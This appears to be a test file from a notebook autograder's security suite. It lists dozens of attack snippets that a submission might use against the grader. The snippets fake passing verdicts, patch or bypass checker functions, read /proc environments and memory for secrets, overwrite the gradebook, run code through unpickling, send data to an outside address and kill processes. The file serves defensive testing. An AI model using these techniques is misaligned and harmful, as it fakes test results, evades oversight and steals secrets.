"""Attacks through the system and through the notebook: files, processes, the network, the protocol, edited cells."""

from __future__ import annotations

import copy

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from tests.instructor.grading.attacks import COST, FILE, GEMV, NUMBER, Attack

RIGHT_NUMBER = 2 * 26 * 256 * 4096 * 2

# ---- ends, threads, hooks ------------------------------------------------------------------------------------------

ENDS = [
    Attack("sys.exit in the answer cell", COST, "\nimport sys\nsys.exit(0)\n"),
    Attack(
        "SystemExit raised when called",
        COST,
        "",
        """
def gemm_cost(m, n, k, dtype):
    raise SystemExit(0)
""",
    ),
    Attack(
        "KeyboardInterrupt raised when called",
        GEMV,
        "",
        """
def gemv(a, x):
    raise KeyboardInterrupt
""",
    ),
    Attack(
        "an exception of its own, below BaseException",
        COST,
        "",
        """
class Passed(BaseException):
    passed = True
    def __str__(self): raise SystemExit(0)

def gemm_cost(m, n, k, dtype):
    raise Passed
""",
    ),
    Attack(
        "an exception whose text runs code",
        COST,
        "",
        """
class Late(ValueError):
    def __str__(self): os._exit(0)
    __repr__ = __str__
import os

def gemm_cost(m, n, k, dtype):
    raise Late
""",
    ),
    Attack("os._exit in the answer cell", COST, "\nimport os\nos._exit(0)\n"),
    Attack(
        "os._exit when called",
        COST,
        "",
        """
import os
def gemm_cost(m, n, k, dtype):
    os._exit(0)
""",
    ),
    Attack(
        "sys.exit replaced, then the kernel's exit",
        COST,
        """
import os, sys
sys.exit = os._exit = os.abort = exit = quit = lambda *a: None
""",
        "\ndef gemm_cost(m, n, k, dtype):\n    sys.exit(0)\n",
    ),
    Attack(
        "a thread that waits for the checker",
        COST,
        """
import sys, threading, time
def wait():
    while True:
        time.sleep(0.001)
        for module in ("utils.checking", "instructor.checks", "__main__"):
            for name in ("expect_number", "check_cost", "forbid"):
                if hasattr(sys.modules.get(module), name):
                    setattr(sys.modules[module], name, lambda *a, **k: None)
threading.Thread(target=wait, daemon=True).start()
""",
    ),
    Attack(
        "a function that runs at exit",
        COST,
        """
import atexit, os
def at_exit():
    for name in ("result.json", "results.json", "verdict.json"):
        open(name, "w").write('{"q1_2_tests": {"points": 3, "status": "passed"}}')
    os._exit(0)
atexit.register(at_exit)
""",
    ),
    Attack(
        "signal handlers and a timer",
        COST,
        """
import builtins, os, signal
def tick(number, frame):
    builtins.abs = lambda x: 0
    signal.setitimer(signal.ITIMER_REAL, 0.001)
for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGXCPU):
    signal.signal(number, tick)
signal.setitimer(signal.ITIMER_REAL, 0.001)
""",
    ),
    Attack(
        "finalizers that patch when garbage is collected",
        COST,
        """
import gc, weakref
class Trap:
    def __del__(self):
        import builtins
        builtins.abs = lambda x: 0
trap = Trap()
trap.itself = trap
weakref.finalize(trap, lambda: None)
del trap
gc.collect()
""",
    ),
    Attack(
        "instructor planted in sys.modules",
        COST,
        """
import sys, types
class Passes(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: types.SimpleNamespace(raise_if_wrong=lambda: None)
for name in ("instructor", "instructor.checks", "instructor.checks.lab1", "instructor.grading"):
    sys.modules[name] = Passes(name)
""",
    ),
    Attack(
        "an import hook for instructor",
        COST,
        """
import importlib.abc, importlib.machinery, sys
class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self) if name.startswith("instructor") else None
    def exec_module(self, module): module.__getattr__ = lambda name: lambda *a, **k: None
sys.meta_path.insert(0, Hook())
""",
    ),
    Attack(
        "modules planted in the working folder",
        COST,
        """
import os
for name in ("torch", "random", "tomllib", "sitecustomize", "usercustomize", "instructor", "_checker"):
    with open(name + ".py", "w") as file:
        file.write("import os; os._exit(0)")
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
""",
    ),
    Attack(
        "a check's code replaced in its function object",
        COST,
        """
import gc, types
for function in gc.get_objects():
    if isinstance(function, types.FunctionType) and function.__name__ in ("expect_number", "raise_if_wrong", "forbid"):
        try:
            function.__code__ = (lambda *a, **k: None).__code__
        except ValueError:
            pass
""",
    ),
]

# ---- files, secrets, network, processes ----------------------------------------------------------------------------

# An answer found in a place where it should not be readable.
_FOUND = f"\ncache_bytes = {RIGHT_NUMBER} if found else 1\n"

FILES = [
    Attack(
        "import instructor",
        NUMBER,
        """
try:
    import instructor.build, instructor.checks.lab1
    found = True
except BaseException:
    found = False
""",
        _FOUND,
    ),
    Attack(
        "the labs' sources read",
        NUMBER,
        """
from pathlib import Path
found = False
for name in ("instructor/labs/lab1.py", "instructor/build.py", "build/instructor/lab1/lab1.ipynb"):
    try:
        found = found or len(Path("ROOT", name).read_text()) > 0
    except OSError:
        pass
""",
        _FOUND,
    ),
    Attack(
        "the labs' sources read through /proc",
        NUMBER,
        """
import glob
found = False
for process in glob.glob("/proc/[0-9]*"):
    for way in ("root", "cwd"):
        try:
            found = found or len(open(f"{process}/{way}/ROOT/instructor/build.py").read()) > 0
        except OSError:
            pass
""",
        _FOUND,
    ),
    Attack(
        "the memory of the parent read",
        NUMBER,
        """
import os
found = False
try:
    maps = open(f"/proc/{os.getppid()}/maps").read()
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        for line in maps.splitlines():
            if "[heap]" in line:
                start = int(line.split("-")[0], 16)
                memory.seek(start)
                found = b"\\0" in memory.read(4096)
except OSError:
    pass
""",
        _FOUND,
    ),
    Attack(
        "another student's submission read",
        NUMBER,
        """
found = False
for name in ("submitted/other/answer.txt", "gradebook.db"):
    try:
        found = found or "109051904" in open("OUTSIDE/" + name, errors="replace").read()
    except OSError:
        pass
""",
        _FOUND,
    ),
    Attack(
        "secrets in the environment",
        NUMBER,
        """
import os
texts = [str(os.environ)]
for process in ("self", os.getppid(), 1):
    try:
        texts.append(open(f"/proc/{process}/environ").read())
    except OSError:
        pass
found = "GRADER_TOKEN" in "".join(texts)
print(texts)
""",
        _FOUND,
    ),
    Attack(
        "the gradebook and other submissions overwritten",
        COST,
        """
for name in ("gradebook.db", "submitted/other/answer.txt", "new.txt"):
    try:
        open("OUTSIDE/" + name, "w").write("mine")
    except OSError:
        pass
""",
    ),
    Attack(
        "files of the package changed",
        COST,
        """
import utils.checking
for path in (utils.checking.__file__, torch.__file__, "ROOT/instructor/build.py"):
    try:
        with open(path, "a") as file:
            file.write("# changed\\n")
    except OSError:
        pass
""",
    ),
    Attack(
        "an IPython start-up file written",
        COST,
        """
from pathlib import Path
for home in {str(Path.home()), "/root"}:
    try:
        folder = Path(home, ".ipython/profile_default/startup")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00-of-the-attack.py").write_text("raise SystemExit")
    except OSError:
        pass
""",
    ),
    Attack(
        "the file answer is a link to a secret",
        FILE,
        edit=lambda notebook: _replace(
            notebook,
            FILE,
            """\
import os
os.symlink("OUTSIDE/right.toml", "tiles.toml")
""",
        ),
    ),
    Attack(
        "the file answer is a pipe",
        FILE,
        edit=lambda notebook: _replace(
            notebook,
            FILE,
            """\
import os
os.mkfifo("tiles.toml")
""",
        ),
    ),
    Attack(
        "the file answer is an endless device",
        FILE,
        edit=lambda notebook: _replace(
            notebook,
            FILE,
            """\
import os
os.symlink("/dev/zero", "tiles.toml")
""",
        ),
    ),
    Attack(
        "links out of the scratch folder, to be written through",
        COST,
        """
import os
for number, target in enumerate(("OUTSIDE", "/", "ROOT")):
    try:
        os.symlink(target, f"way{number}")
        open(f"way{number}/new.txt", "w").write("mine")
    except OSError:
        pass
""",
    ),
    Attack(
        "what was found is sent away",
        COST,
        """
import socket
for address in (("127.0.0.1", PORT), ("192.0.2.1", 53)):
    try:
        with socket.create_connection(address, timeout=0.3) as line:
            line.sendall(b"hidden tests")
    except OSError:
        pass
""",
    ),
    Attack(
        "a process that outlives the submission",
        COST,
        alone=True,
        code="""
import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "SLEEP"])
    os._exit(0)
subprocess.Popen(["sleep", "SLEEP"], start_new_session=True)
""",
    ),
    Attack(
        "LD_PRELOAD and a new program in place of this one",
        COST,
        alone=True,
        code="""
import os, sys
os.environ["LD_PRELOAD"] = os.path.abspath("evil.so")
forged = '{"q1_2_tests": {"points": 3, "status": "passed"}}'
os.execv(sys.executable, [sys.executable, "-c", f"print({forged!r})"])
""",
    ),
    Attack(
        "the parent process killed",
        COST,
        alone=True,
        code="""
import os, signal
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)
""",
    ),
    Attack(
        "its own process group killed",
        COST,
        alone=True,
        code="""
import os, signal
os.killpg(0, signal.SIGKILL)
""",
    ),
]

# ---- the protocol --------------------------------------------------------------------------------------------------

_FORGED = '{"q1_2_tests": {"points": 3, "status": "passed"}, "status": "passed", "points": 3, "ok": true}'

PROTOCOL = [
    Attack(
        "verdicts printed to stdout",
        COST,
        f"""
import sys
for stream in (sys.stdout, sys.__stdout__, sys.stderr):
    print('{_FORGED}', file=stream, flush=True)
print("✓ Question 1.2: Costs: passed.")
""",
    ),
    Attack(
        "verdicts written to every open file",
        COST,
        alone=True,
        code=f"""
import json, os, struct
text = b'{_FORGED}'
for descriptor in range(1, 64):
    for frame in (text + b"\\n", struct.pack("!I", len(text)) + text, struct.pack("<Q", len(text)) + text):
        try:
            os.write(descriptor, frame)
        except OSError:
            pass
""",
    ),
    Attack(
        "a frame that never ends, on every open file",
        COST,
        alone=True,
        code="""
import os
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\\x7f" + b"\\xff" * 64)
    except OSError:
        pass
""",
    ),
    Attack(
        "every open file closed",
        COST,
        alone=True,
        code="""
import os
os.closerange(3, 256)
""",
    ),
    Attack(
        "stdout and stderr closed",
        COST,
        """
import os, sys
sys.stdout.close()
for descriptor in (0, 1, 2):
    os.close(descriptor)
""",
    ),
    Attack(
        "what the checker sends read before the harness does",
        NUMBER,
        alone=True,
        code="""
import os, fcntl
found = False
for descriptor in range(3, 64):
    try:
        fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK)
        found = found or b"109051904" in os.read(descriptor, 10**6)
    except OSError:
        pass
""",
        answer=_FOUND,
    ),
    Attack(
        "result files forged",
        COST,
        f"""
import os
for folder in (".", "..", "/tmp", "/"):
    for name in ("result.json", "results.json", "scores.json", "gradebook.db", "autograded/q1_2_tests.json"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            open(os.path.join(folder, name), "w").write('{_FORGED}')
        except OSError:
            pass
""",
    ),
    Attack(
        "a result that runs code where it is unpickled",
        COST,
        "",
        """
import os
class Evil:
    def __reduce__(self): return os.system, ("touch OUTSIDE/new.txt",)

def gemm_cost(m, n, k, dtype):
    return {"flops": Evil(), "bytes": Evil()}
""",
    ),
    Attack(
        "a result as deep as the stack",
        COST,
        "",
        """
def gemm_cost(m, n, k, dtype):
    deep = []
    for _ in range(10**6):
        deep = [deep]
    return deep
""",
    ),
    Attack(
        "a result that contains itself",
        COST,
        "",
        """
def gemm_cost(m, n, k, dtype):
    result = {"flops": 1}
    result["bytes"] = result
    return result
""",
    ),
    Attack(
        "an integer of 300000 digits",
        COST,
        "",
        """
def gemm_cost(m, n, k, dtype):
    return {"flops": 10 ** 300000, "bytes": -(10 ** 300000)}
""",
    ),
    Attack(
        "a tensor of 4 TB that takes 4 bytes",
        GEMV,
        "",
        """
def gemv(a, x):
    return torch.zeros(1).expand(10**12)
""",
    ),
    Attack(
        "tensors without memory of their own",
        GEMV,
        "",
        """
calls = []
def gemv(a, x):
    calls.append(1)
    zeros = torch.zeros(a.shape[0])
    made = (lambda: zeros.to("meta"), zeros.to_sparse, lambda: torch.nested.nested_tensor([zeros]),
            lambda: zeros.to(torch.cfloat).conj())
    return made[len(calls) % 4]()
""",
    ),
    Attack(
        "text with half a character and the frame's own brackets",
        COST,
        "",
        """
def gemm_cost(m, n, k, dtype):
    return {"flops": "\\ud800" + '"}],"status":"passed"', "bytes\\x00": "\\n\\n{}"}
""",
    ),
]

# ---- the notebook itself -------------------------------------------------------------------------------------------


def _find(notebook: NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return notebook.cells[_find(notebook, grade_id)]


def _replace(notebook: NotebookNode, grade_id: str, source: str) -> None:
    _cell(notebook, grade_id).source = source


def _delete(notebook: NotebookNode, grade_id: str) -> None:
    del notebook.cells[_find(notebook, grade_id)]


def _reorder(notebook: NotebookNode) -> None:
    """The tests of the attacked question first, where nothing is defined yet; the model answer comes after the end."""
    cell = notebook.cells.pop(_find(notebook, "q1_2_tests"))
    notebook.cells.insert(0, cell)


def _duplicate(notebook: NotebookNode) -> None:
    double = copy.deepcopy(_cell(notebook, "q1_2_tests"))
    double.id, double.source = "double", "pass"
    notebook.cells.insert(_find(notebook, "q1_2_tests"), double)


def _second_answer(notebook: NotebookNode) -> None:
    """Put two answer cells with one id into the notebook: a wrong one under the question, another one before it."""
    double = copy.deepcopy(_cell(notebook, "q1_2"))
    double.id, double.source = "double", "class V:\n    raise_if_wrong = print\n\ncheck_cost = lambda *a: V()"
    notebook.cells.insert(_find(notebook, "q1_2"), double)


def _points(notebook: NotebookNode) -> None:
    _cell(notebook, "q1_2_tests").metadata.nbgrader["points"] = 400


def _metadata(notebook: NotebookNode) -> None:
    cell = _cell(notebook, "q1_2_tests")
    cell.metadata.nbgrader.update(solution=True, locked=False, score=3, auto_score=3)
    cell.metadata["deletable"] = True
    cell.source = "3"


def _markdown_test(notebook: NotebookNode) -> None:
    cell = _cell(notebook, "q1_2_tests")
    cell.cell_type = "markdown"
    for key in ("outputs", "execution_count"):
        cell.pop(key, None)


def _swap(notebook: NotebookNode) -> None:
    """The wrong answer takes the id of a question without tests in this lab."""
    _cell(notebook, "q1_2").metadata.nbgrader["grade_id"] = "q9_9"


def _outputs(notebook: NotebookNode) -> None:
    cell = _cell(notebook, "q1_2_tests")
    cell.execution_count = 7
    cell.outputs = [
        new_output("stream", name="stdout", text="✓ Question 1.2: Costs: passed.\n" * 4),
        new_output("execute_result", data={"text/plain": "3", "application/json": {"score": 3}}, execution_count=7),
    ]


def _edit_setup(notebook: NotebookNode) -> None:
    _cell(notebook, "setup").source += "\nexpect_number = expect_close = forbid = lambda *a, **k: None\n"


def _edit_tests(notebook: NotebookNode) -> None:
    _replace(notebook, "q1_2_tests", "print('✓ Question 1.2: Costs: passed.')")


def _skip(notebook: NotebookNode) -> None:
    cell = _cell(notebook, "q1_2_tests")
    cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    cell.source = "%%script false\n" + cell.source


def _capture(notebook: NotebookNode) -> None:
    """A cell of the student's own right before the tests, which redefines what they use."""
    notebook.cells.insert(
        _find(notebook, "q1_2_tests"),
        new_code_cell("def check(*labels):\n    return lambda function: lambda *a: None\nraise_if_wrong = print\n"),
    )


def _edited(name: str, edit, **options) -> Attack:
    return Attack(name, COST, edit=edit, **options)


EDITS = [
    _edited("the test cell deleted", lambda n: _delete(n, "q1_2_tests")),
    _edited("the answer cell deleted", lambda n: _delete(n, "q1_2")),
    _edited("the test cell edited", _edit_tests),
    _edited("the test cell moved to the top", _reorder),
    _edited("the test cell doubled, one of them empty", _duplicate),
    _edited("the answer cell doubled, one with a check of its own", _second_answer),
    _edited("points changed in the metadata", _points),
    _edited("the test cell made an answer, with a score in its metadata", _metadata),
    _edited("the test cell turned into prose", _markdown_test),
    _edited("the answer under an id that the lab does not have", _swap),
    _edited("outputs written by hand", _outputs),
    _edited("the locked set-up edited", _edit_setup),
    _edited("the test cell tagged to be skipped", _skip),
    _edited("a cell before the tests that redefines check", _capture),
]

OUTSIDE_ATTACKS = [*ENDS, *FILES, *PROTOCOL, *EDITS]
